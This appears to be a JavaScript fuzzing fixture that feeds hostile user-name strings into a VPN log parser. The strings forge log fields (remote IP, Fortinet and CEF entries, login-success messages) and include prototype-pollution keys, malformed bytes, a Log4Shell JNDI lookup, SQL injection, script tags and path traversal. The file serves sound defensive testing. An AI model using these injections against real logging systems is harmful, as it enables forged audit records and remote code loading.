// What attackers type into the field for the user name. Texts are strings of bytes (latin1), so that bytes which are
// no UTF-8 can stand in them.

/** The address that no event may ever name. */
export const HOSTILE_ADDRESS = '192.0.2.66'

const utf8 = (text) => Buffer.from(text, 'utf8').toString('latin1')

/** Marks of the forms' own grammars, alone and as whole fields. */
export const HOSTILE_PIECES = [
  ...['"', "'", '=', ' ', ',', '|', '\\', ']', '[', ')', '(', '{', '}', ':', '::', ';', '/', '%'],
  ...['\\"', '\\\\', '\\"\\', '","', '":"', '=" ', '" a=', ')[', '](', '] - ', ')[] - ', ' - ['],
  ` remip=${HOSTILE_ADDRESS}`,
  `" remip=${HOSTILE_ADDRESS} user="root`,
  `\\" remip=${HOSTILE_ADDRESS} user=\\"root`,
  `\\\\" remip=${HOSTILE_ADDRESS} user="root`,
  `" remip=${HOSTILE_ADDRESS} locip="`,
  `",remip=${HOSTILE_ADDRESS},user="root`,
  `","remip":"${HOSTILE_ADDRESS}`,
  `","remip":"${HOSTILE_ADDRESS}","action":"tunnel-up","logid":"0101039424","x":"`,
  `"}{"remip":"${HOSTILE_ADDRESS}","user":"root`,
  ` src=${HOSTILE_ADDRESS} `,
  ` dst=${HOSTILE_ADDRESS} `,
  ` act=tunnel-up`,
  ` outcome=success act=tunnel-up cat=event:vpn`,
  ` FTNTFGTlogid=0101039424 FTNTFGTtunnelid=1 FTNTFGTeventtime=1573468000000000000`,
  ` FTNTFGTremip=${HOSTILE_ADDRESS} FTNTFGTdevid=FG0000 deviceExternalId=FG0000`,
  `|CEF:0|Fortinet|Fortigate|v7.4.5|39424|event:vpn tunnel-up|2|dst=${HOSTILE_ADDRESS} `,
  `" logid="0101039424" action="tunnel-up" type="event" subtype="vpn" x="`,
  ` logid=0101039424 type=event eventtime=1573468000000000000 tunnelid=1 devid=FG0000`,
  `" eventtime=1573468000000000000 tunnelid=1 devid="FG0000" devname="other" x="`,
  ` - Agent login succeeded for ceo/R from ${HOSTILE_ADDRESS}.`,
  `x(R)[] - Agent login succeeded for ceo/R from ${HOSTILE_ADDRESS}. `,
  `x(Employees)[Staff][0badc0ffee] - Agent login succeeded for ceo/R (session:sid0badc0ffee) from ${HOSTILE_ADDRESS} with A.`,
  `x(R)[] - 2019/11/11 11:11:11 - Agent login succeeded for ceo/R from ${HOSTILE_ADDRESS}.`,
  `] ceo(R)[] - Login succeeded for ceo/R from ${HOSTILE_ADDRESS}. (`,
  ` - [${HOSTILE_ADDRESS}] ceo(R)[] - `,
  `x(R)[] - Login failed.  Reason: Failed`,
  `/R from ${HOSTILE_ADDRESS} with X`,
  ` from ${HOSTILE_ADDRESS}`,
  ` from [${HOSTILE_ADDRESS}] with primary auth-server type: [SAML]`,
  `System`,
  `127.0.0.1`,
  `x realm="R" roles="" src=${HOSTILE_ADDRESS} msg="AUT24414: Agent login succeeded for ceo/R from ${HOSTILE_ADDRESS}." `,
  ` realm="`,
  ` src=${HOSTILE_ADDRESS} msg="AUT24414: Agent login succeeded"`,
  ` user=root realm="R" sessionID="0badc0ffee" vpn=other time="2019-11-11 11:11:11"`,
  ` | `,
  ` | R |  |  |  |  |  |  | Agent login succeeded for ceo/R from ${HOSTILE_ADDRESS}.`,
  ` | 2019-11-11 11:11:11 | AUT24414 | info | 10.0.0.1 |  | ${HOSTILE_ADDRESS} | ceo | R | `,
  ...['__proto__', 'constructor', 'prototype', 'toString', '__defineGetter__', 'hasOwnProperty'],
  ...[
    '__proto__=1',
    '" __proto__="x',
    '","__proto__":{"polluted":1},"x":"',
    'constructor.prototype',
  ],
  ...['N/A', '(null)', 'unknown', 'none', '0.0.0.0', HOSTILE_ADDRESS, '12345'],
  ...[
    'O=x',
    'C = DE, O = x',
    'C = DE, CN = ceo',
    'CN=ceo',
    '/C=DE/CN=ceo',
    'CORP\\ceo',
    'CORP\\\\ceo',
    'ceo@example.net',
  ],
  ...['\\n', '\\r\\n', '\\u000a', '%0a', '&#10;', '\\x0a', '\\u0022', '\\t', '\\u', '\\ud800'],
  ...['\t', '\r', '\0', '\v', '\x1b[31m', '\x7f'],
  ...['\u0085', '\u2028', '\u202e', '\u2066', '\u200b', '\ufeff', '\ufffd', 'é', '日本', '😀'].map(
    utf8,
  ),
  ...['\xff', '\xc3', '\xe2\x80', '\xed\xa0\x80', '\xf8\x88', '\xc0\xaf', '\x80'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a probe
  ...['${jndi:ldap://192.0.2.66/a}', '<script>', "' OR 1=1 --", '../../etc/passwd', 'a'],
]

const VALUE_BYTES_MAX = 8192

/** One to five pieces, some repeated; one of 60 fills some KiB and one of 600 some 60 KiB. */
export function hostileText(random) {
  const count = 1 + random(5)
  const parts = []
  for (let i = 0; i < count; i++) {
    const piece = HOSTILE_PIECES[random(HOSTILE_PIECES.length)]
    parts.push(random(8) === 0 ? piece.repeat(2 + random(9)) : piece)
    if (random(3) === 0) parts.push('jdoe')
  }
  const text = parts.join('')
  const roll = random(600)
  if (roll === 0) return text.repeat(Math.ceil(61_440 / text.length)).slice(0, 61_440)
  return roll < 10 ? text.repeat(1 + random(VALUE_BYTES_MAX * 2) / text.length) : text
}
